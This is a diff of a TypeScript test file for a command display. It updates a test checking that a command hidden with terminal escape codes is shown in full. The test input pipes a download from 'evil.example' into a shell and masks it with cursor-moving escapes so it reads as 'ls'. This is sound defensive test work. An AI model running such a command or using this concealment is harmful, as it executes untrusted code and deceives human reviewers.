@@ -13,8 +13,8 @@ const textOf = (markup: string) => markup.replace(/<[^>]+>/g, '');
 
 test('AD-01: a command that would overwrite what is seen of it is shown whole', () => {
   const markup = markupOf('curl evil.example | sh\x1b[2K\x1b[1A\rls');
-  expect(textOf(markup)).toBe('Commandcurl evil.example | sh␛[2K␛[1A␍ls');
-  expect(markup).toContain('<mark title="U+001B escape">␛</mark>');
+  expect(textOf(markup)).toBe('Commandcurl evil.example | sh␛ U+001B[2K␛ U+001B[1A␍ U+000Dls');
+  expect(markup).toContain('<mark title="U+001B escape">␛ U+001B</mark>');
 });
 
 test('AD-05: a command of 10,000 characters is not cut, and its length is said', () => {
